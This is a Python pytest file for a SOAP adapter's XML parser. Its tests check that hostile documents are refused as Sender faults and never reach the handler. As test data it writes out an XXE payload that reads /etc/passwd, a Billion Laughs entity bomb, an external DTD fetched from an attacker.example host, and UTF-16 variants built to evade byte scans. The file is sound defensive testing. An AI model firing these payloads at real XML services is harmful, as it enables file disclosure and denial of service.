"""What arrives over SOAP is parsed without a network, a DTD or entity expansion: XXE, entity
bombs, oversized and malformed messages are Sender faults, over the wire too."""

from __future__ import annotations

import pytest

from adapters.soap.errors import FaultCode, SoapFault
from adapters.soap.parsing import parse_document
from tests.adapters.soap.conftest import fault_of, post, sample_bytes

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body><x>&secret;</x></e:Body></e:Envelope>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE e SYSTEM "http://attacker.example/evil.dtd">
<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body/></e:Envelope>"""


def _utf16(document: bytes) -> bytes:
    # A UTF-16 document hides "<!DOCTYPE" from a byte scan; the parsed tree still shows it.
    return (
        document.replace(b'version="1.0"?>', b'version="1.0" encoding="UTF-16"?>')
        .decode()
        .encode("utf-16")
    )


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, _utf16(XXE), _utf16(BILLION_LAUGHS)],
    ids=["xxe", "billion-laughs", "external-dtd", "xxe-utf16", "billion-laughs-utf16"],
)
def test_a_document_with_a_dtd_is_refused(document):
    with pytest.raises(SoapFault) as caught:
        parse_document(document, max_bytes=1 << 20)
    assert caught.value.code is FaultCode.SENDER
    # libxml2 itself stops an entity bomb it sees expanding; either way nothing is expanded.
    assert caught.value.reason in {
        "A SOAP message must not contain a DTD",
        "The message is not well-formed XML",
    }


def test_an_entity_reference_without_a_dtd_is_not_expanded_from_anywhere():
    with pytest.raises(SoapFault) as caught:
        parse_document(b"<a>&undefined;</a>", max_bytes=1024)
    assert "well-formed" in caught.value.reason


def test_a_document_over_the_cap_is_refused_unparsed():
    with pytest.raises(SoapFault) as caught:
        parse_document(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1024)
    assert "larger than 1024" in caught.value.reason


@pytest.mark.parametrize("document", [b"", b"not xml", b"<a>", b"\xff\xfe\x00<"])
def test_what_is_not_xml_is_refused(document):
    with pytest.raises(SoapFault):
        parse_document(document, max_bytes=1024)


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, _utf16(XXE)],
    ids=["xxe", "billion-laughs", "external-dtd", "xxe-utf16"],
)
async def test_the_endpoint_refuses_them_without_calling_the_handler(soap, handler, document):
    response = await post(soap, document)
    assert response.status_code == 400
    assert fault_of(response)[0] == "env:Sender"
    assert "root:" not in response.text
    assert handler.calls == []


async def test_an_xxe_inside_a_real_core_envelope_never_reaches_the_handler(soap, handler):
    body = (
        sample_bytes()
        .replace(
            b"<?xml version='1.0' encoding='UTF-8'?>",
            b"<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE x [<!ENTITY p SYSTEM \"file:///etc/passwd\">]>",
        )
        .replace(b"<SenderID>PROVIDER01", b"<SenderID>&p;")
    )
    response = await post(soap, body)
    assert fault_of(response)[0] == "env:Sender"
    assert handler.calls == []
